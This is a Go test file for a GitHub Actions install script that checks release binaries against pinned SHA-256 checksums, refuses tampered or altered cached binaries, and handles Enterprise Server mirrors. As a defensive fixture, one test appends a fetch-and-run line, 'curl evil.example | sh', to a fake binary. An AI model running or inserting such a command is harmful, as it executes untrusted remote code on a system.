package release

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// fakeBinary stands in for a release binary: a script that prints a version.
const fakeBinary = "#!/bin/sh\necho v9.8.7\n"

// release serves a release's files, as GitHub's download URLs do.
func release(t *testing.T, files map[string]string) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, ok := files[strings.TrimPrefix(r.URL.Path, "/")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(srv.Close)
	return srv
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

type install struct {
	code                  int
	log, githubPath, outs string
	bin                   string
}

// runInstall runs setup/install.sh as the composite action does on a
// Linux x64 runner, with env added.
func runInstall(t *testing.T, env ...string) install {
	t.Helper()
	tmp := t.TempDir()
	path, outs := filepath.Join(tmp, "github_path"), filepath.Join(tmp, "github_output")
	cmd := exec.Command("bash", "../../setup/install.sh")
	cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "RUNNER_OS=Linux", "RUNNER_ARCH=X64",
		"RUNNER_TEMP=" + tmp, "GITHUB_PATH=" + path, "GITHUB_OUTPUT=" + outs, "KD_REPOSITORY=acme/kustomize-deploy"}, env...)
	out, err := cmd.CombinedOutput()
	res := install{log: string(out), bin: filepath.Join(tmp, "kustomize-deploy-setup", "bin", "kustomize-deploy")}
	if ee, ok := err.(*exec.ExitError); ok {
		res.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	p, _ := os.ReadFile(path)
	o, _ := os.ReadFile(outs)
	res.githubPath, res.outs = string(p), string(o)
	return res
}

// The release commit carries checksums.txt next to the script: the
// binary is checked against it, not against a file from the same server.
func TestInstallVerifiesAgainstThePinnedChecksums(t *testing.T) {
	t.Parallel()
	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary})
	sums := filepath.Join(t.TempDir(), "checksums.txt")
	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"+sum("x")+"  kustomize-deploy_darwin_arm64\n"), 0o644)
	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS="+sums, "KD_VERSION=v9.8.7")
	if res.code != 0 {
		t.Fatalf("exit %d\n%s", res.code, res.log)
	}
	if out, err := exec.Command(res.bin).Output(); err != nil || string(out) != "v9.8.7\n" {
		t.Errorf("installed binary: %q %v", out, err)
	}
	if strings.TrimSpace(res.githubPath) != filepath.Dir(res.bin) {
		t.Errorf("GITHUB_PATH %q, want %s", res.githubPath, filepath.Dir(res.bin))
	}
	if !strings.Contains(res.outs, "path="+res.bin) || !strings.Contains(res.outs, "version=v9.8.7") {
		t.Errorf("outputs %q", res.outs)
	}
}

func TestInstallRefusesATamperedBinary(t *testing.T) {
	t.Parallel()
	srv := release(t, map[string]string{"kustomize-deploy_linux_amd64": fakeBinary + "curl evil.example | sh\n"})
	sums := filepath.Join(t.TempDir(), "checksums.txt")
	os.WriteFile(sums, []byte(sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n"), 0o644)
	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS="+sums)
	if res.code == 0 || !strings.Contains(res.log, "checksum mismatch for kustomize-deploy_linux_amd64") {
		t.Fatalf("exit %d\n%s", res.code, res.log)
	}
	if _, err := os.Stat(res.bin); err == nil || res.githubPath != "" {
		t.Error("a binary that failed its checksum was installed")
	}
}

// A release other than the pinned one (the setup action's version input,
// or latest) has no pinned checksums.txt: the release's own is used. A
// pinned file that is missing is an error, never a reason to trust the
// server's.
func TestInstallOfAnotherReleaseUsesItsChecksums(t *testing.T) {
	t.Parallel()
	srv := release(t, map[string]string{
		"kustomize-deploy_linux_amd64": fakeBinary,
		"checksums.txt":                sum(fakeBinary) + "  kustomize-deploy_linux_amd64\n",
	})
	res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL)
	if res.code != 0 || !strings.Contains(res.outs, "version=v9.8.7") {
		t.Fatalf("exit %d outputs %q\n%s", res.code, res.outs, res.log)
	}
	res = runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS=/nonexistent/checksums.txt")
	if res.code == 0 || !strings.Contains(res.log, "the pinned checksums /nonexistent/checksums.txt do not exist") {
		t.Errorf("a missing pinned checksums.txt: exit %d\n%s", res.code, res.log)
	}
}

// fakeCurl puts a curl on PATH that serves files from served (URL →
// content) and records every URL asked for in the returned file.
func fakeCurl(t *testing.T, served map[string]string) (pathDir, asked string) {
	t.Helper()
	dir := t.TempDir()
	asked = filepath.Join(dir, "asked")
	var cases strings.Builder
	for url, body := range served {
		f := filepath.Join(dir, sum(url))
		writeTestFile(t, f, body)
		fmt.Fprintf(&cases, "  %q) cp %q \"$out\" ;;\n", url, f)
	}
	writeTestFile(t, filepath.Join(dir, "curl"), `#!/bin/sh
out=""; url=""
while [ $# -gt 0 ]; do
  case "$1" in --output) out=$2; shift ;; -*) ;; *) url=$1 ;; esac
  shift
done
echo "$url" >> `+asked+`
case "$url" in
`+cases.String()+`  *) echo "curl: (22) The requested URL returned error: 404" >&2; exit 22 ;;
esac
`)
	return dir, asked
}

// On GitHub Enterprise Server (GITHUB_SERVER_URL is not github.com) the
// release's files come from github.com, where the project's releases are;
// download-url (KD_DOWNLOAD_URL) points at a mirror instead. Both are
// checked against the pinned sums.
func TestInstallOnGitHubEnterpriseServer(t *testing.T) {
	t.Parallel()
	sums := filepath.Join(t.TempDir(), "checksums.txt")
	writeTestFile(t, sums, sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n")
	for name, tc := range map[string]struct {
		env  []string
		want string // the URL downloaded
	}{
		"github.com": {nil, "https://github.com/acme/kustomize-deploy/releases/download/v9.8.7/kustomize-deploy_linux_amd64"},
		"a mirror":   {[]string{"KD_DOWNLOAD_URL=https://mirror.example.com/kd/v9.8.7/"}, "https://mirror.example.com/kd/v9.8.7/kustomize-deploy_linux_amd64"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir, asked := fakeCurl(t, map[string]string{tc.want: fakeBinary})
			env := append([]string{"PATH=" + dir + string(os.PathListSeparator) + os.Getenv("PATH"), "GITHUB_SERVER_URL=https://ghe.example.com",
				"KD_CHECKSUMS=" + sums, "KD_VERSION=v9.8.7"}, tc.env...)
			res := runInstall(t, env...)
			if res.code != 0 {
				t.Fatalf("exit %d\n%s", res.code, res.log)
			}
			if got, _ := os.ReadFile(asked); strings.TrimSpace(string(got)) != tc.want {
				t.Errorf("downloaded %q, want only %s", got, tc.want)
			}
		})
	}
	// A runner that cannot reach github.com is told how to get a mirror used.
	dir, _ := fakeCurl(t, nil)
	res := runInstall(t, "PATH="+dir+string(os.PathListSeparator)+os.Getenv("PATH"), "GITHUB_SERVER_URL=https://ghe.example.com", "KD_CHECKSUMS="+sums, "KD_VERSION=v9.8.7")
	if res.code == 0 || !strings.Contains(res.log, "needs download-url") {
		t.Errorf("no github.com: exit %d\n%s", res.code, res.log)
	}
}

func TestInstallErrorsNameTheProblem(t *testing.T) {
	t.Parallel()
	srv := release(t, map[string]string{"checksums.txt": sum("x") + "  kustomize-deploy_darwin_arm64\n"})
	for name, tc := range map[string]struct {
		env  []string
		want string
	}{
		"not in the sums": {[]string{"KD_DOWNLOAD_URL=" + srv.URL}, "kustomize-deploy_linux_amd64 is not in checksums.txt"},
		"bad version":     {[]string{"KD_VERSION=latest"}, "input 'version': want a release such as v1.2.3"},
		"unknown arch":    {[]string{"RUNNER_ARCH=ARM"}, "unsupported runner architecture 'ARM'"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			res := runInstall(t, tc.env...)
			if res.code == 0 || !strings.Contains(res.log, tc.want) {
				t.Errorf("exit %d, want an error with %q:\n%s", res.code, tc.want, res.log)
			}
		})
	}
}

// setup/plan.sh keys a source build on the files under cmd/, internal/
// and action/ (and go.mod, go.sum): every package the binary is built
// from must be there, or a changed file could reuse an older binary.
func TestPlanKeysEveryPackageOfTheBinary(t *testing.T) {
	t.Parallel()
	cmd := exec.Command("go", "list", "-deps", "-f", "{{if not .Standard}}{{.ImportPath}}{{end}}", "./cmd/kustomize-deploy")
	cmd.Dir = "../.."
	cmd.Env = append(os.Environ(), "GOWORK=off", "GOFLAGS=-mod=readonly")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("go list: %v", err)
	}
	const module = "github.com/kustomize-deploy/kustomize-deploy"
	n := 0
	for _, pkg := range strings.Fields(string(out)) {
		rel, ok := strings.CutPrefix(pkg, module+"/")
		if !ok {
			continue
		}
		n++
		if top, _, _ := strings.Cut(rel, "/"); top != "cmd" && top != "internal" && top != "action" {
			t.Errorf("package %s of the binary is outside cmd/, internal/ and action/: add its directory to setup/plan.sh's key", pkg)
		}
	}
	if n < 10 {
		t.Errorf("only %d packages of the module in the binary: %s", n, out)
	}
	plan := string(read(t, "../../setup/plan.sh"))
	if !strings.Contains(plan, "find go.mod go.sum cmd internal action ") {
		t.Error("setup/plan.sh no longer keys on go.mod go.sum cmd internal action: update this test with it")
	}
}

// A release is kept in the runner's tool cache (a self-hosted runner
// downloads it once), and the cached binary is checked against the
// pinned sums before every use: one that changed is downloaded again,
// never run.
func TestInstallKeepsAReleaseInTheToolCache(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	downloads := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/kustomize-deploy_linux_amd64" {
			http.NotFound(w, r)
			return
		}
		mu.Lock()
		downloads++
		mu.Unlock()
		_, _ = w.Write([]byte(fakeBinary))
	}))
	t.Cleanup(srv.Close)
	sums := filepath.Join(t.TempDir(), "checksums.txt")
	writeTestFile(t, sums, sum(fakeBinary)+"  kustomize-deploy_linux_amd64\n")
	count := func() int {
		mu.Lock()
		defer mu.Unlock()
		return downloads
	}
	cache := t.TempDir()
	cached := filepath.Join(cache, "kustomize-deploy", "9.8.7", "x64", "kustomize-deploy")
	install := func() install {
		t.Helper()
		res := runInstall(t, "KD_DOWNLOAD_URL="+srv.URL, "KD_CHECKSUMS="+sums, "KD_VERSION=v9.8.7", "RUNNER_TOOL_CACHE="+cache)
		if res.code != 0 {
			t.Fatalf("exit %d\n%s", res.code, res.log)
		}
		if !strings.Contains(res.outs, "path="+cached+"\n") || strings.TrimSpace(res.githubPath) != filepath.Dir(cached) {
			t.Errorf("outputs %q, PATH %q: want the tool cache's %s", res.outs, res.githubPath, cached)
		}
		return res
	}
	install()
	if _, err := os.Stat(filepath.Dir(cached) + ".complete"); err != nil || count() != 1 {
		t.Fatalf("after the first install: %d downloads, marker %v", count(), err)
	}
	if res := install(); count() != 1 || !strings.Contains(res.log, "from the tool cache") {
		t.Errorf("the second install downloaded again (%d downloads):\n%s", count(), res.log)
	}
	writeTestFile(t, cached, "#!/bin/sh\necho evil\n")
	res := install()
	if count() != 2 || !strings.Contains(res.log, "does not match its checksum") {
		t.Errorf("a changed cached binary: %d downloads\n%s", count(), res.log)
	}
	if out, err := exec.Command(cached).Output(); err != nil || string(out) != "v9.8.7\n" {
		t.Errorf("the tool cache holds %q %v, want the release again", out, err)
	}
}

func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
}
